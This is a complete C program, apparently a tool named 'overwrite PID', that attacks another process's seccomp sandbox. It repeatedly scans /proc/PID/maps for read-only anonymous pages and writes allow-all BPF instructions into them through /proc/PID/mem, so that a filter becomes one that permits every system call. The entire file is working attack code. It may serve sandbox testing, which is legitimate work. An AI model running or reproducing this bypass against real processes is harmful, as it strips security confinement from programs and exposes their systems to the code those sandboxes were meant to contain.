/*
 * overwrite PID: writes into each page of a process that can only be read and has no file, as soon as it is there: each
 * instruction of a filter becomes one that permits all. It ends with the process.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define INSTRUCTIONS 4000

static struct sock_filter program[INSTRUCTIONS];

static void overwrite(int memory, unsigned long from, unsigned long to)
{
	/* struct sock_fprog lies before. */
	size_t size = to - from - 16 < sizeof program ? to - from - 16 : sizeof program;
	(void)!pwrite(memory, program, size, (off_t)from + 16);
}

static int look(const char *pid, int memory)
{
	char path[64], line[512];
	int count = 0;
	(void)snprintf(path, sizeof path, "/proc/%s/maps", pid);
	FILE *maps = fopen(path, "re");
	while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
		unsigned long from, to, inode;
		char rights[5];
		count++;
		if (sscanf(line, "%lx-%lx %4s %*s %*s %lu", &from, &to, rights, &inode) == 4 && inode == 0 &&
		    strcmp(rights, "r--p") == 0 && strchr(line, '[') == NULL)
			overwrite(memory, from, to);
	}
	if (maps != NULL)
		(void)fclose(maps);
	return count;
}

int main(int argc, char **argv)
{
	char path[64];
	if (argc != 2)
		errx(1, "overwrite PID");
	for (int i = 0; i < INSTRUCTIONS; i++)
		program[i] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	(void)snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
	int memory = open(path, O_RDWR | O_CLOEXEC);
	if (memory < 0)
		err(1, "%s", path);
	(void)!write(1, "ready\n", 6);
	while (look(argv[1], memory) > 0)
		;
	return 0;
}
